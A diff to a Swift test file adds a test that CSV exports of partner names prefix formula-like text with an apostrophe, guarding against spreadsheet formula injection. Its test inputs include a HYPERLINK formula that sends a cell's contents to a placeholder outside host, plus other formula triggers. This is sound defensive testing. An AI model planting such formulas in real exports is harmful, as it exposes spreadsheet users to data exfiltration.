@@ -1,5 +1,6 @@
 import CareLedger
 import Foundation
+import LedgerJSON
 import LedgerTestSupport
 import ProjectionKit
 @testable import SpreadsheetRows
@@ -231,6 +232,25 @@ import Testing
         let table = ReportTable(title: "", columns: ["partnerId", "name"], rows: [["PT-1", "Line one\r\nline two"]])
         #expect(table.csv == "partnerId,name\r\nPT-1,\"Line one\r\nline two\"\r\n", "\(table.csv)")
         #expect(try CSVRows(Array(table.csv.utf8)).rows.map(\.fields) == [["PT-1", "Line one\r\nline two"]])
+    }
+
+    /// A download opened in a spreadsheet program runs no formula someone recorded: a partner's
+    /// name (or any text) beginning as a formula does is begun with an apostrophe in every CSV a
+    /// read model gives, and a negative number is still a number. The JSON keeps the name as sent.
+    @Test func aDownloadRunsNoFormulaSomeoneRecorded() throws {
+        let cli = try CLIWorkspace().initialised()
+        let names = [#"=HYPERLINK("http://example.invalid/?"&A1,"Open")"#, "+44 line", "-Hub-", "@SUM(A1:A9)", "\tTabbed"]
+        for (i, name) in names.enumerated() {
+            try cli.expect(0, ["record", "PartnerRegistered", "--on", "2024-01-0\(i + 1)", "partnerId=PT-F\(i)", "name=\(name)", "kind=hub"])
+        }
+        let csv = try cli.expect(0, ["query", "partners", "--period", "2024-Q1", "--csv"]).standardOutput
+        #expect(csv.contains(#"PT-F0,"'=HYPERLINK(""http://example.invalid/?""&A1,""Open"")",hub,"#), "\(csv)")
+        #expect(csv.contains("PT-F1,'+44 line,hub,") && csv.contains("PT-F2,'-Hub-,hub,") && csv.contains("PT-F3,'@SUM(A1:A9),hub,")
+                && csv.contains("PT-F4,'\tTabbed,hub,"), "\(csv)")
+        let json = try JSONValue(parsing: try cli.expect(0, ["query", "partners", "--period", "2024-Q1", "--json"]).standardOutput)
+        #expect(json["partners"]?.arrayValue?.first { $0["partnerId"] == "PT-F0" }?["name"]?.stringValue == names[0])
+        let numbers = ReportTable(title: "", columns: ["daysLeft", "rate", "note"], rows: [["-11", "-0.5", "-"], ["+3", "1e3", "=1"]]).csv
+        #expect(numbers == "daysLeft,rate,note\r\n-11,-0.5,'-\r\n+3,1e3,'=1\r\n", "\(numbers)")
     }
 }
 
